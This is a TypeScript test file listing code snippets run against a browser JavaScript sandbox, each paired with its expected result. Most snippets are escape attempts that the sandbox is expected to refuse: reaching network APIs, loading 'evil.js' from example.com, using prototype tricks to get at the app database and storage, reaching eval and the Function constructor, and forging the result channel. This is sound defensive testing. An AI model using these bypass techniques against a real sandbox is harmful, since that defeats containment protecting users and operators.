import type { SandboxResult } from '../tool-context.ts';
import { MAX_LOG_ENTRIES, MAX_RESULT_CHARS } from './sandbox-serialise.ts';

/** What a sandboxed snippet must produce. */
export interface EscapeExpectation {
  ok: boolean;
  timedOut?: boolean;
  /** Substring the error must contain. */
  errorIncludes?: string;
  /** Substring the result must contain. */
  resultIncludes?: string;
  /** Exact result. */
  result?: string;
  /** Upper bound on the result's length (truncation). */
  maxResultChars?: number;
  /** Upper bound on the number of console entries. */
  maxLogs?: number;
  /** Substring some console entry must contain. */
  logIncludes?: string;
}

/** A snippet run in the real sandbox by the end-to-end tests, with the outcome it must have. */
export interface EscapeCase {
  name: string;
  code: string;
  expect: EscapeExpectation;
}

/** Time limit the cases are written for (the timeout case relies on it). */
export const ESCAPE_CASE_TIMEOUT_MS = 2000;

/** The sandbox answers like a console (issue 12, part 3): run in the built app by the end-to-end tests. */
export const SANDBOX_REPL_CASES: readonly EscapeCase[] = [
  {
    name: 'the last expression statement is the result',
    code: 'let s = 0; for (let i = 1; i <= 10; i++) s += i; s',
    expect: { ok: true, result: '55' },
  },
  {
    name: 'return works at top level',
    code: 'const limit = 3;\nif (limit > 2) return "early";\n"late"',
    expect: { ok: true, result: 'early' },
  },
  {
    name: 'console.log output is captured apart from the result',
    code: "console.log('working on', [1, 2]);\nconst total = 1 + 2;\ntotal",
    expect: { ok: true, result: '3', logIncludes: 'working on [ 1, 2 ]' },
  },
  {
    name: 'a thrown error is reported with its message',
    code: "const x = 1;\nthrow new RangeError('x is ' + x)",
    expect: { ok: false, errorIncludes: 'RangeError: x is 1' },
  },
  {
    name: 'top-level await: promises are awaited',
    code: 'const later = await new Promise((resolve) => setTimeout(() => resolve(20), 10));\nPromise.resolve(later + 1)',
    expect: { ok: true, result: '21' },
  },
  {
    name: 'strings, comments and regular expressions do not confuse the last expression',
    code: "const s = `a; b ${'}'}`; // not the end;\nconst r = /[;}]/g; /* still not */\ns.replace(r, '')",
    expect: { ok: true, result: 'a b ' },
  },
  {
    name: 'the word import in a string is allowed',
    code: "'import is just a word'",
    expect: { ok: true, result: 'import is just a word' },
  },
];

/** Attempts to leave the sandbox or exhaust the page, plus a few ordinary runs that must keep working. */
export const SANDBOX_ESCAPE_CASES: readonly EscapeCase[] = [
  { name: 'an expression returns its value', code: '6 * 7', expect: { ok: true, result: '42' } },
  {
    name: 'the last line is returned and logs are captured',
    code: "const items = [1, 2, 3];\nconsole.log('sum of', items.length, 'items');\nitems.reduce((a, b) => a + b, 0)",
    expect: { ok: true, result: '6', logIncludes: 'sum of 3 items' },
  },
  {
    name: 'await works',
    code: 'return await Promise.resolve({ a: 1n, b: undefined })',
    expect: { ok: true, result: '{ a: 1n, b: undefined }' },
  },
  {
    name: 'secure-context built-ins stay available (crypto.randomUUID, crypto.subtle)',
    code: "[typeof crypto.randomUUID(), typeof (await crypto.subtle.digest('SHA-256', new Uint8Array([1]))).byteLength].join(' ')",
    expect: { ok: true, result: 'string number' },
  },
  {
    name: 'cycles are displayed, not followed',
    code: 'const a = { name: "a" }; a.self = a; return a',
    expect: { ok: true, resultIncludes: '[Circular]' },
  },
  {
    name: 'thrown errors are reported',
    code: "throw new TypeError('bad input')",
    expect: { ok: false, errorIncludes: 'TypeError: bad input' },
  },
  { name: 'syntax errors are reported', code: 'return (1 +', expect: { ok: false, errorIncludes: 'SyntaxError' } },
  {
    name: 'no DOM: document',
    code: 'return document.title',
    expect: { ok: false, errorIncludes: 'document is not defined' },
  },
  { name: 'no DOM: window', code: "window.alert('hi')", expect: { ok: false, errorIncludes: 'window is not defined' } },
  {
    name: 'no page storage: localStorage',
    code: "localStorage.setItem('x', '1')",
    expect: { ok: false, errorIncludes: 'localStorage is not defined' },
  },
  {
    name: 'fetch is disabled',
    code: "return await fetch('https://example.com/')",
    expect: { ok: false, errorIncludes: 'fetch is disabled in the sandbox' },
  },
  {
    name: 'fetch through the global object is disabled',
    code: "return await self['fet' + 'ch']('https://example.com/')",
    expect: { ok: false, errorIncludes: 'fetch is disabled in the sandbox' },
  },
  {
    name: 'XMLHttpRequest is disabled',
    code: 'new XMLHttpRequest()',
    expect: { ok: false, errorIncludes: 'XMLHttpRequest is disabled in the sandbox' },
  },
  {
    name: 'WebSocket is disabled',
    code: "new WebSocket('wss://example.com/')",
    expect: { ok: false, errorIncludes: 'WebSocket is disabled in the sandbox' },
  },
  {
    name: 'EventSource is disabled',
    code: "new EventSource('https://example.com/')",
    expect: { ok: false, errorIncludes: 'EventSource is disabled in the sandbox' },
  },
  {
    name: 'importScripts is disabled',
    code: "importScripts('https://example.com/evil.js')",
    expect: { ok: false, errorIncludes: 'importScripts is disabled in the sandbox' },
  },
  {
    name: 'dynamic import is refused before running',
    code: "return await import('https://example.com/evil.js')",
    expect: { ok: false, errorIncludes: 'import is disabled in the sandbox' },
  },
  {
    name: 'indexedDB is disabled',
    code: "indexedDB.open('glassbox')",
    expect: { ok: false, errorIncludes: 'indexedDB is disabled in the sandbox' },
  },
  {
    name: 'the app database is out of reach through the prototype too',
    code: "let holder = Object.getPrototypeOf(self);\nwhile (!Object.hasOwn(holder, 'indexedDB')) holder = Object.getPrototypeOf(holder);\nObject.getOwnPropertyDescriptor(holder, 'indexedDB').get.call(self).open('glassbox')",
    expect: { ok: false, errorIncludes: 'indexedDB is disabled in the sandbox' },
  },
  {
    name: 'no parent window',
    code: 'parent.document.title',
    expect: { ok: false, errorIncludes: 'parent is not defined' },
  },
  {
    name: 'no top window',
    code: "top.postMessage('forged', '*')",
    expect: { ok: false, errorIncludes: 'top is not defined' },
  },
  { name: 'no opener', code: 'opener.location.href', expect: { ok: false, errorIncludes: 'opener is not defined' } },
  {
    name: 'caches are disabled',
    code: "await caches.open('x')",
    expect: { ok: false, errorIncludes: 'caches is disabled in the sandbox' },
  },
  {
    name: 'BroadcastChannel is disabled',
    code: "new BroadcastChannel('glassbox')",
    expect: { ok: false, errorIncludes: 'BroadcastChannel is disabled in the sandbox' },
  },
  {
    name: 'nested workers are disabled',
    code: "new Worker('data:text/javascript,1')",
    expect: { ok: false, errorIncludes: 'Worker is disabled in the sandbox' },
  },
  {
    name: 'origin storage is disabled',
    code: 'await navigator.storage.getDirectory()',
    expect: { ok: false, errorIncludes: 'navigator.storage is disabled in the sandbox' },
  },
  {
    name: 'storage buckets are disabled',
    code: "await navigator.storageBuckets.open('x')",
    expect: { ok: false, errorIncludes: 'navigator.storageBuckets is disabled in the sandbox' },
  },
  {
    name: 'app locks are out of reach',
    code: "await navigator.locks.request('glassbox', () => new Promise(() => {}))",
    expect: { ok: false, errorIncludes: 'navigator.locks is disabled in the sandbox' },
  },
  {
    name: 'the original navigator getter is gone too',
    code: "return Object.getOwnPropertyDescriptor(Object.getPrototypeOf(navigator), 'storage').get.call(navigator)",
    expect: { ok: false, errorIncludes: 'navigator.storage is disabled in the sandbox' },
  },
  {
    name: 'eval is disabled',
    code: "eval('1 + 1')",
    expect: { ok: false, errorIncludes: 'eval is disabled in the sandbox' },
  },
  {
    name: 'the Function constructor is unreachable',
    code: "return (function () {}).constructor('return 1')()",
    expect: { ok: false, errorIncludes: 'The Function constructor is disabled in the sandbox' },
  },
  {
    name: 'the async Function constructor is unreachable',
    code: "return Object.getPrototypeOf(async function () {}).constructor('return 1')",
    expect: { ok: false, errorIncludes: 'The Function constructor is disabled in the sandbox' },
  },
  {
    name: 'string timers are disabled',
    code: "setTimeout('fetch(1)', 0)",
    expect: { ok: false, errorIncludes: 'setTimeout with a string of code is disabled' },
  },
  {
    name: 'the result channel cannot be forged',
    code: "postMessage({ type: 'result', ok: true, result: 'forged' })",
    expect: { ok: false, errorIncludes: 'postMessage is disabled in the sandbox' },
  },
  {
    name: 'a pending promise never resolving is stopped',
    code: 'await new Promise(() => {})',
    expect: { ok: false, timedOut: true },
  },
  {
    name: 'uncaught errors in callbacks are logged',
    code: "setTimeout(() => { throw new Error('late failure') }, 0);\nawait new Promise((resolve) => setTimeout(resolve, 50));\nreturn 'finished'",
    expect: { ok: true, result: 'finished', logIncludes: 'late failure' },
  },
  { name: 'an endless loop is stopped', code: 'while (true) {}', expect: { ok: false, timedOut: true } },
  {
    name: 'logs before an endless loop are kept',
    code: "console.log('before the loop');\nfor (;;) {}",
    expect: { ok: false, timedOut: true, logIncludes: 'before the loop' },
  },
  {
    name: 'huge results are truncated',
    code: "return 'x'.repeat(5_000_000)",
    expect: { ok: true, resultIncludes: 'truncated', maxResultChars: MAX_RESULT_CHARS + 200 },
  },
  {
    name: 'huge structures are shortened',
    code: 'return Array.from({ length: 100000 }, (_, i) => ({ i, text: "row " + i }))',
    expect: { ok: true, resultIncludes: 'more', maxResultChars: MAX_RESULT_CHARS + 200 },
  },
  {
    name: 'console floods are bounded',
    code: "for (let i = 0; i < 100000; i++) console.log('line', i);\nreturn 'done'",
    expect: { ok: true, result: 'done', maxLogs: MAX_LOG_ENTRIES + 1, logIncludes: 'console output was dropped' },
  },
];

/** Compares a sandbox result with a case's expectation; returns what does not match (empty when it passes). */
export function checkEscapeCase(expectation: EscapeExpectation, outcome: SandboxResult): string[] {
  const problems: string[] = [];
  if (outcome.ok !== expectation.ok)
    problems.push(`ok is ${outcome.ok}, expected ${expectation.ok} (error: ${outcome.error ?? 'none'})`);
  if ((outcome.timedOut ?? false) !== (expectation.timedOut ?? false)) {
    problems.push(`timedOut is ${outcome.timedOut ?? false}, expected ${expectation.timedOut ?? false}`);
  }
  if (expectation.errorIncludes !== undefined && !(outcome.error ?? '').includes(expectation.errorIncludes)) {
    problems.push(`error "${outcome.error ?? ''}" does not contain "${expectation.errorIncludes}"`);
  }
  if (expectation.result !== undefined && outcome.result !== expectation.result) {
    problems.push(`result is ${JSON.stringify(outcome.result)}, expected ${JSON.stringify(expectation.result)}`);
  }
  if (expectation.resultIncludes !== undefined && !(outcome.result ?? '').includes(expectation.resultIncludes)) {
    problems.push(`result does not contain "${expectation.resultIncludes}"`);
  }
  if (expectation.maxResultChars !== undefined && (outcome.result ?? '').length > expectation.maxResultChars) {
    problems.push(`result has ${(outcome.result ?? '').length} characters, more than ${expectation.maxResultChars}`);
  }
  if (expectation.maxLogs !== undefined && outcome.logs.length > expectation.maxLogs) {
    problems.push(`${outcome.logs.length} log entries, more than ${expectation.maxLogs}`);
  }
  if (
    expectation.logIncludes !== undefined &&
    !outcome.logs.some((entry) => entry.includes(expectation.logIncludes as string))
  ) {
    problems.push(`no log entry contains "${expectation.logIncludes}"`);
  }
  return problems;
}
